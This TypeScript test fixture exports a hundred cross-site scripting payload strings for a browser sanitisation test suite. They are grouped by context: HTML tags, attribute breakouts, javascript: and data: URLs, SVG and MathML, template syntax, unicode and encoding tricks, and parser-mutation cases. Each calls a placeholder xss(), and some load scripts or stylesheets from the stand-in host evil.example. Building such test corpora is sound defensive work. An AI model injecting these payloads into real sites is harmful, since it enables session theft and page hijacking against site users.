import { isLongForm } from './form.ts';

/**
 * A hundred texts that would run `xss()` if a page interpreted them, grouped by the context they target. Each is one
 * line of at most 97 characters, without characters that the product refuses.
 */
const asMarkup = [
  '<script>xss()</script>',
  '<ScRiPt>xss()</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script src=data:text/javascript,xss()></script>',
  '<script>/*',
  '</script><script>xss()</script>',
  '<<script>xss()//<</script>',
  '<script/xss>xss()</script>',
  '<script type=module>xss()</script>',
  '<img src=x onerror=xss()>',
  '<img src=x onerror="xss()">',
  "<img src='x' onerror='xss()'>",
  '<img/src=x/onerror=xss()>',
  '<img src=x:x onerror=xss`1`>',
  '<img srcset=x onerror=xss()>',
  '<image src=x onerror=xss()>',
  '<body onload=xss()>',
  '<iframe src=javascript:xss()></iframe>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<object data=javascript:xss()></object>',
  '<embed src=javascript:xss()>',
  '<video src=x onerror=xss()></video>',
  '<audio src=x onerror=xss()></audio>',
  '<details open ontoggle=xss()>x</details>',
  '<input autofocus onfocus=xss()>',
  '<select autofocus onfocus=xss()>',
  '<textarea autofocus onfocus=xss()>',
  '<marquee onstart=xss()>x</marquee>',
  '<dialog open onclose=xss()><form method=dialog><button>x</button></form></dialog>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  '<base href=//evil.example/>',
  '<form action=javascript:xss()><button autofocus>x</button></form>',
  '<a href=javascript:xss() id=x>click</a>',
  '<div style="background:url(//evil.example/x.png)">x</div>',
  '<x onclick=xss() tabindex=1 autofocus onfocus=xss()>x',
  '<div onpointerenter=xss() style="position:fixed;inset:0">x</div>',
  '<p id=__boot><p name=boot>',
  '<!--><img src=x onerror=xss()>-->',
  '<![CDATA[<img src=x onerror=xss()>]]>',
  '<?xml version="1.0"?><script>xss()</script>',
] as const;

const asAttribute = [
  '" onmouseover="xss()',
  "' onmouseover='xss()",
  '" autofocus onfocus="xss()" x="',
  '"><img src=x onerror=xss()>',
  "'><img src=x onerror=xss()>",
  '` onmouseover=`xss()',
  '"/><script>xss()</script>',
  'x" style="animation-name:x" onanimationstart="xss()',
  '&quot; onmouseover=&quot;xss()',
  '\\" onmouseover=\\"xss()',
  '" srcdoc="<script>xss()</script>',
  'x onerror=xss()',
] as const;

const asAddress = [
  'javascript:xss()',
  'JaVaScRiPt:xss()',
  'javascript&colon;xss()',
  'java&#115;cript:xss()',
  'javascript://%0axss()',
  'data:text/html,<script>xss()</script>',
  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
  'vbscript:xss()',
  '//evil.example/x',
  'https://evil.example/"onerror="xss()',
  'blob:https://evil.example/x',
  'view-source:javascript:xss()',
] as const;

const asDrawing = [
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><script href=data:,xss() /></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=xss()>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>',
  '<svg><a href=javascript:xss()><text y=20>x</text></a></svg>',
  '<math><mi xlink:href=javascript:xss()>x</mi></math>',
] as const;

const asTemplate = [
  '{{constructor.constructor("xss()")()}}',
  ['$', '{xss()}'].join(''),
  '<%= xss() %>',
  '#{xss()}',
  '{% raw %}{{xss()}}',
  '{"__html":"<img src=x onerror=xss()>"}',
  '{name, plural, other {<b>xss()</b>}}',
  "');xss();//",
  '";xss();//',
  '\\u003cscript\\u003exss()\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=xss()\\x3e',
  '%3Cscript%3Exss()%3C/script%3E',
  '&lt;script&gt;xss()&lt;/script&gt;',
  '&#60;img src=x onerror=xss()&#62;',
] as const;

const asOtherLetters = [
  '\uff1cscript\uff1exss()\uff1c/script\uff1e',
  '<scr\u00adipt>xss()</scr\u00adipt>',
  '<scr\u200bipt>xss()</script>',
  '\u02b9><img src=x onerror=xss()>',
  '<\u017fcript>xss()</\u017fcript>',
  '+ADw-script+AD4-xss()+ADw-/script+AD4-',
] as const;

/** Texts that are harmless as written, but dangerous after a parser has read and rewritten them. */
const asMutation = [
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<math><mi><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mi></math>',
  '<svg></p><style><a id="</style><img src=x onerror=xss()>">',
  '<template><img src=x onerror=xss()></template>',
  '<listing>&lt;img src=x onerror=xss()&gt;</listing>',
] as const;

const all: readonly string[] = [
  ...asMarkup,
  ...asAttribute,
  ...asAddress,
  ...asDrawing,
  ...asTemplate,
  ...asOtherLetters,
  ...asMutation,
];

/** The short form uses a quarter of each kind. All hundred: FORM=long npm test -- --only browser xss */
export const payloads = isLongForm ? all : all.filter((_, at) => at % 4 === 0);
